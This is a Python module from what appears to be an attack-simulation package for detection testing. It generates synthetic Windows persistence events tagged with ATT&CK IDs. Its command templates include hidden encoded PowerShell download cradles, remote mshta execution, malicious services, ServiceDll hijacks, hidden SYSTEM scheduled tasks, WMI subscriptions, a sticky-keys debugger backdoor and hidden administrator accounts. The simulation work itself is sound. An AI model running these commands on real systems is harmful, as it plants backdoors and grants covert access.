"""Attacks that stay: run keys, services, tasks, WMI subscriptions, accounts."""

from __future__ import annotations

from collections.abc import Iterator

from tocsin.simulate.actions import (
    AccountCreate,
    GroupAdd,
    RegistrySet,
    ScriptBlock,
    ServiceInstall,
    TaskCreate,
)
from tocsin.simulate.organisation import SYSTEM
from tocsin.simulate.scenarios.cast import Act, Cast, Scenario
from tocsin.simulate.software import CMD, POWERSHELL, SVCHOST, encoded

_RUN = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion"


def _run_key(cast: Cast) -> Iterator[Act]:
    key = cast.one_of("Run", "RunOnce")
    payload = cast.one_of(
        cast.implant,
        f"powershell.exe -w hidden -enc {encoded(cast.download())}",
        f"mshta.exe {cast.url('hta')}",
        f"rundll32.exe {cast.dropped('dll')},Start",
    )
    name = cast.one_of("Updater", "OneDriveSync", cast.word().title())
    hive = cast.one_of("HKCU", "HKEY_CURRENT_USER")
    add = f'reg.exe {cast.cased("add")} {hive}\\{_RUN}\\{key} /v {name} /t REG_SZ /d "{payload}" /f'
    yield Act("write-run-key", "T1547.001", cast.run(add))
    value = RegistrySet(
        cast.victim,
        cast.desk,
        "C:\\Windows\\System32\\reg.exe",
        f"HKU\\{{sid}}\\{_RUN}\\{key}\\{name}",
        payload,
    )
    yield Act("write-run-key", "T1547.001", value)
    menu = (
        f"C:\\Users\\{cast.victim.name}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
    )
    path = f"{menu}\\{cast.word()}.{cast.one_of('lnk', 'vbs', 'bat', 'js')}"
    yield Act(
        "write-startup-folder", "T1547.001", cast.file(path, cast.one_of(CMD, POWERSHELL, cast.implant))
    )
    copy = f'cmd.exe /c copy {cast.implant} "{menu}\\{cast.word()}.exe"'
    yield Act("copy-to-startup-folder", "T1547.001", cast.run(copy))


def _service(cast: Cast) -> Iterator[Act]:
    name = cast.word().title()
    payload = cast.one_of(
        cast.implant,
        f"cmd.exe /c start {cast.implant}",
        f"%COMSPEC% /C powershell.exe -nop -w hidden -enc {encoded(cast.download())}",
    )
    if cast.rng.random() < 0.6:
        line = f'sc.exe create {name} binPath= "{payload}" start= auto'
    else:
        script = f"New-Service -Name {name} -BinaryPathName '{payload}' -StartupType Automatic"
        line = f'powershell.exe -c "{script}"'
    yield Act("create-service", "T1543.003", cast.run(line, account=cast.admin, machine=cast.server))
    made = ServiceInstall(cast.admin, cast.server, name, payload, "auto start")
    yield Act("create-service", "T1543.003", made)
    key = f"HKLM\\System\\CurrentControlSet\\Services\\{name}\\ImagePath"
    services = "C:\\Windows\\System32\\services.exe"
    yield Act("create-service", "T1543.003", RegistrySet(SYSTEM, cast.server, services, key, payload))
    dll = cast.dropped("dll")
    parameters = (
        f"HKLM\\SYSTEM\\CurrentControlSet\\Services\\{cast.one_of('Wuauserv', 'BITS', 'Themes')}\\Parameters"
    )
    hijack = f"reg.exe add {parameters} /v ServiceDll /t REG_EXPAND_SZ /d {dll} /f"
    yield Act(
        "replace-service-library", "T1543.003", cast.run(hijack, account=cast.admin, machine=cast.server)
    )
    failure = f'sc.exe failure {name} command= "{cast.implant}" reset= 0 actions= run/5000'
    yield Act("restart-by-failure", "T1543.003", cast.run(failure, account=cast.admin, machine=cast.server))


def _task(cast: Cast) -> Iterator[Act]:
    name = cast.one_of(f"Microsoft\\Windows\\{cast.word().title()}", cast.word().title())
    hidden = cast.one_of(
        f"powershell.exe -w hidden -enc {encoded(cast.download())}",
        cast.implant,
        f"cmd.exe /c {cast.dropped('bat')}",
        f"mshta.exe {cast.url('hta')}",
    )
    trigger = cast.one_of("/sc onlogon", "/sc minute /mo 15", "/sc onstart", "/sc daily /st 03:15")
    line = f'schtasks.exe {cast.cased("/create")} /tn "{name}" /tr "{hidden}" {trigger} /ru SYSTEM /f'
    yield Act("create-task", "T1053.005", cast.run(line, account=cast.admin, machine=cast.desk))
    command, _, arguments = hidden.partition(" ")
    made = TaskCreate(cast.admin, cast.desk, name, command, arguments)
    yield Act("create-task", "T1053.005", made)
    script = cast.download()
    run = cast.powershell(script, parent=SVCHOST, account=SYSTEM, machine=cast.desk)
    yield Act("run-task", "T1053.005", run)
    tree = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree"
    hide = f'reg.exe delete "{tree}\\{name}" /v SD /f'
    yield Act("hide-task", "T1564", cast.run(hide, account=SYSTEM, machine=cast.desk))


def _wmi_subscription(cast: Cast) -> Iterator[Act]:
    name = cast.word().title()
    query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_LocalTime'"
    script = (
        f"$f=Set-WmiInstance -Namespace root\\subscription -Class __EventFilter -Arguments @{{Name='{name}';"
        f"QueryLanguage='WQL';Query=\"{query}\"}};"
        "Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments "
        f"@{{Name='{name}';CommandLineTemplate='{cast.implant}'}}"
    )
    if cast.rng.random() < 0.5:
        line = f'powershell.exe -nop -c "{script}"'
        yield Act("subscribe", "T1546.003", cast.run(line, account=cast.admin, machine=cast.server))
        yield Act("subscribe", "T1546.003", ScriptBlock(cast.admin, cast.server, script))
    else:
        line = f"mofcomp.exe {cast.dropped('mof')}"
        yield Act("subscribe", "T1546.003", cast.run(line, account=cast.admin, machine=cast.server))
    host = "C:\\Windows\\System32\\wbem\\scrcons.exe"
    shell = f"powershell.exe -w hidden -c {cast.download()}"
    yield Act(
        "run-by-subscription", "T1546.003", cast.run(shell, parent=host, account=SYSTEM, machine=cast.server)
    )
    debugger = cast.one_of("sethc.exe", "utilman.exe", "osk.exe")
    key = f"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\{debugger}"
    add = f'reg.exe add "{key}" /v Debugger /t REG_SZ /d C:\\Windows\\System32\\cmd.exe /f'
    yield Act(
        "replace-accessibility-tool", "T1546.008", cast.run(add, account=cast.admin, machine=cast.server)
    )
    image = "C:\\Windows\\System32\\reg.exe"
    value = RegistrySet(cast.admin, cast.server, image, f"{key}\\Debugger", "C:\\Windows\\System32\\cmd.exe")
    yield Act("replace-accessibility-tool", "T1546.008", value)


def _account(cast: Cast) -> Iterator[Act]:
    who, where = cast.admin, cast.server
    name = cast.one_of(f"{cast.word()}$", f"support_{cast.rng.randrange(100, 999)}", cast.word())
    net = cast.one_of("net.exe", "net1.exe")
    add = f"{net} {cast.cased('user')} {name} {cast.password()} /add"
    yield Act("create-account", "T1136.001", cast.run(add, account=who, machine=where))
    yield Act("create-account", "T1136.001", AccountCreate(who, where, name))
    group = f"{net} localgroup {cast.cased('administrators')} {name} /add"
    yield Act("add-to-administrators", "T1098.007", cast.run(group, account=who, machine=where))
    yield Act("add-to-administrators", "T1098.007", GroupAdd(who, where, "Administrators", name))
    key = "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList"
    hide = f'reg.exe add "{key}" /v {name} /t REG_DWORD /d 0 /f'
    yield Act("hide-account", "T1564.002", cast.run(hide, account=who, machine=where))
    image = "C:\\Windows\\System32\\reg.exe"
    value = RegistrySet(who, where, image, f"{key}\\{name}", "DWORD (0x00000000)")
    yield Act("hide-account", "T1564.002", value)
    remote = "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server"
    allow = f'reg.exe add "{remote}" /v fDenyTSConnections /t REG_DWORD /d 0 /f'
    yield Act("allow-remote-desktop", "T1112", cast.run(allow, account=who, machine=where))


SCENARIOS = (
    Scenario("run-key", "Start with every logon by a run key or the start-up folder", _run_key),
    Scenario("malicious-service", "Start with the machine by a service", _service),
    Scenario("scheduled-task", "Start again and again by a hidden task", _task),
    Scenario(
        "wmi-subscription", "Start on an event by WMI, and by the accessibility tools", _wmi_subscription
    ),
    Scenario("new-administrator", "Create a hidden local administrator", _account),
)
